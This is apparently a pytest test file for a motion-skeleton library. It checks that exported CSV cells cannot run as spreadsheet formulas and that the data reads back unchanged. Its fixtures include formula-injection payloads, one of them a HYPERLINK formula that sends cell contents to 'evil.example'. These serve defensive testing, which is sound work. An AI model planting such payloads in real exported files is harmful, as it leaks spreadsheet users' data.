"""No CSV of ours is run by a spreadsheet, and what it takes for that is taken away again."""

import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import sta_lstm
from sta_lstm.formats.names.joints_file import read_joints_file, write_joints_file
from sta_lstm.formats.tables.own_csv import read_table, write_table
from sta_lstm.skeletons import Clip, SkeletonLayout
from sta_lstm.spreadsheet import csv_text, own_text, safe_json, safe_text

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "  =1",
    "'=1",
    "'\"=1",
    "a;=1",
    "＝1",
)
#: As a spreadsheet sees a cell: what is run, wherever it takes a cell's end to be.
_RUN = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")
texts = st.text(st.sampled_from("=+-@'\"; ,abＡ＝{}:\\"), max_size=12)


def is_run(cell):
    return any(_RUN.match(part) for part in cell.split(";"))


@given(texts)
def test_no_text_is_run_and_each_comes_back(text):
    assert not is_run(safe_text(text))
    assert own_text(safe_text(text)) == text


@given(texts)
def test_no_json_in_a_comment_is_run(text):
    safe = safe_json(json.dumps({"joints": [text, 3]}))
    assert json.loads(safe) == {"joints": [text, 3]}
    assert not any(is_run(cell) for cell in safe.split(",")[1:])


def test_numbers_stay_numbers():
    table = pd.DataFrame({"x": [-1.5, 2.0], "=n": [-1, 2], "mixed": [-1, "-1"], "kind": pd.Categorical(["=a", "b"])})
    assert csv_text(table) == "x,'=n,mixed,kind\n-1.5,-1,-1,'=a\n2.0,2,'-1,b\n"
    assert csv_text(table[["x"]], float_format="%.3g") == "x\n-1.5\n2\n"


@pytest.fixture
def hostile():
    """A clip of which every text would be run."""
    joints = (*FORMULAS, "head")
    layout = SkeletonLayout(
        name="mine, =1",
        title="a;@b",
        joints=joints,
        bones=tuple((joints[0], joint) for joint in joints[1:]),
        mirror_pairs=(),
        root=joints[0],
        torso=(joints[0], "head"),
        up_axis="y",
        source="-2+3",
    )
    return Clip(
        positions=np.linspace(-1, 1, 2 * len(joints) * 3, dtype=np.float32).reshape(2, 1, -1, 3),
        fps=30,
        layout=layout,
        up_axis="y",
        present=np.ones((2, 1), dtype=bool),
        name="x,=1",
        label='=1,"=2"',
        notes=("a, -1", "b;\t@c", "plain, with a comma"),
        inferred=(joints[1],),
    )


def test_no_cell_of_a_clip_is_run_and_the_clip_comes_back(hostile):
    data = write_table(hostile)
    for row in csv.reader(io.StringIO(data.decode())):
        text = [cell for cell in row if not re.fullmatch(r"-?[\d.e+-]+", cell)]
        assert not any(is_run(cell) for cell in text), row
    for line in data.decode().splitlines():  # and where the marks of quotation are letters like others
        assert not any(re.match(r"\s*[=+@]", cell) for cell in re.split("[,;\t]", line)), line
    again = read_table(data, "h.csv")
    for field in ("layout", "name", "label", "notes", "inferred"):
        assert getattr(again, field) == getattr(hostile, field)
    assert np.array_equal(again.positions, hostile.positions)


def test_a_table_of_joints_comes_back():
    joints = dict.fromkeys(FORMULAS, "head") | {"neck": "-", "x": ""}
    text = write_joints_file({name.strip(): meaning for name, meaning in joints.items()})
    assert not any(is_run(cell) for row in csv.reader(io.StringIO(text)) for cell in row)
    assert read_joints_file(text.encode(), "j.csv") == {name.strip(): meaning for name, meaning in joints.items()}


def test_nobody_writes_a_csv_past_the_one_writer():
    home = Path(sta_lstm.__file__).parent
    past = re.compile(r"to_csv|csv\.writer|DictWriter|write_csv|savetxt|writerows?\(")
    found = [path.relative_to(home).as_posix() for path in home.rglob("*.py") if past.search(path.read_text("utf-8"))]
    assert found == ["spreadsheet.py"]
